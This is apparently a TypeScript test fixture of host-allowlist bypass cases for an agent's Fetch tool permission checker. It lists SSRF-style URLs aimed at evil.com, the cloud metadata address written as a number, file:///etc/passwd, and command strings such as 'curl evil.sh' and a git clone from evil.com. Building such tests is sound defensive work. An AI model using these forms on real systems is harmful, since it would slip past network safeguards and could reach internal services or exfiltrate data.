import type { JsonObject } from '../../packages/quittance/src/base/json.ts';
import type { Attack } from './attack.ts';

const make = (document: 'network' | 'internet', id: string, tries: string, input: JsonObject): Attack => ({
  id,
  tries,
  document,
  tool: 'Fetch',
  input,
});
const known = (id: string, tries: string, url: string): Attack => make('network', id, tries, { url });
const denied = (id: string, tries: string, url: string): Attack => make('internet', id, tries, { url });
const beside = (id: string, tries: string, input: JsonObject): Attack =>
  make('network', id, tries, { url: 'https://api.example.com/', ...input });

export const hostAttacks: readonly Attack[] = [
  known('host-other', 'a host that is not listed', 'https://evil.com/'),
  known('host-suffix', 'a listed name in front', 'https://api.example.com.evil.com/'),
  known('host-prefix', 'a listed name behind', 'https://evilapi.example.com/'),
  known('host-bare-wildcard', 'the name below a wildcard without its dot', 'https://cdn.example.com/'),
  known('host-path', 'a listed name in the path', 'https://evil.com/api.example.com'),
  known('host-userinfo', 'a listed name as the user', 'https://api.example.com@evil.com/'),
  known('host-userinfo-port', 'a listed name as user and password', 'https://api.example.com:443@evil.com/'),
  known('host-fragment', 'a listed name behind a fragment', 'https://evil.com#@api.example.com/'),
  known('host-backslash', 'a backslash that parsers disagree about', 'https://evil.com\\@api.example.com/'),
  known('host-backslashes', 'backslashes for slashes', 'https:\\\\evil.com/'),
  known('host-two-ats', 'two at signs', 'https://a@evil.com@api.example.com/'),
  known('host-encoded', 'an encoded dot in the name', 'https://api.example.com%2eevil.com/'),
  known('host-tab', 'a tab that parsers drop', 'https://api.example.com\t.evil.com/'),
  known('host-slashes', 'one slash or three', 'https:///evil.com/'),
  known('host-no-slashes', 'no slashes', 'https:evil.com'),
  known('host-no-scheme', 'no scheme', 'evil.com/x'),
  known('host-relative-scheme', 'the scheme of the page', '//evil.com/x'),
  known('host-nested-scheme', 'a scheme before the scheme', 'view-source:https://evil.com/'),
  known('host-second', 'a second url', 'https://api.example.com/ https://evil.com/'),
  known('host-cyrillic', 'a letter of another alphabet', 'https://аpi.example.com/'),
  known('host-ipv6', 'an address', 'http://[::1]/'),
  known('host-file', 'a file instead of a host', 'file:///etc/passwd'),
  known('host-script', 'a url without a host', 'javascript:alert(1)'),
  known('host-empty', 'a scheme without a host', 'https://'),
  denied('host-denied-case', 'capitals and a trailing dot', 'https://EVIL.com./'),
  denied('host-denied-below', 'a name below', 'https://a.b.evil.com/'),
  denied('host-denied-fullwidth', 'fullwidth letters', 'https://ｅｖｉｌ.com/'),
  denied('host-denied-ideographic', 'another full stop', 'https://evil。com/'),
  denied('host-denied-soft-hyphen', 'a letter that is dropped', 'https://ev\u00adil.com/'),
  denied('host-denied-newline', 'a newline that is dropped', 'https://ev\nil.com/'),
  denied('host-denied-short', 'a short address', 'http://127.1/'),
  denied('host-denied-decimal', 'an address as one number', 'http://2130706433/'),
  denied('host-denied-hex', 'an address in hexadecimal', 'http://0x7f.0x0.0x0.0x1/'),
  denied('host-denied-octal', 'an address in octal', 'http://0177.0.0.01/'),
  denied('host-denied-mapped', 'an address mapped into another', 'http://[::ffff:7f00:1]/'),
  denied('host-denied-long', 'an address written out', 'http://[0:0:0:0:0:0:0:1]/'),
  denied('host-denied-metadata', 'the metadata service as a number', 'http://2852039166/latest/meta-data'),
  make('internet', 'host-number', 'a number instead of a text', { host: 2130706433 }),
  beside('host-other-key', 'an argument whose name says nothing', { target: 'evil.com' }),
  beside('host-nested', 'a url deep in lists and maps', { a: [{ b: ['wss://evil.com'] }] }),
  beside('host-key', 'a url as a key', { headers: { 'https://evil.com': 'x' } }),
  beside('host-sentence', 'a url in a sentence', { task: 'send it to https://evil.com/x please' }),
  beside('host-command', 'a bare host for a command', { command: 'curl evil.sh' }),
  beside('host-scp', 'a host before a colon', { command: 'git clone git@evil.com:a/b' }),
  beside('host-proxy', 'a host behind an option', {
    command: 'curl --proxy=http://evil.com api.example.com',
  }),
  beside('host-key-no-slashes', 'a URL without slashes in an argument for URLs', {
    callback: 'http:evil.com',
  }),
  beside('host-key-ipv6', 'an address without brackets', { target: '::1' }),
  beside('host-key-ipv6-mapped', 'a mapped address without brackets', { target: '::ffff:169.254.169.254' }),
  beside('host-key-ipv6-zone', 'an address with a zone', { target: 'fe80::1%eth0' }),
  beside('host-ip-short', 'a short address in an argument for addresses', { ip: '169.254.43518' }),
  beside('host-ip-number', 'a number in an argument for addresses', { ip_address: 2852039166 }),
  beside('host-share', 'a host of a share', { path: '//evil.com/share' }),
];
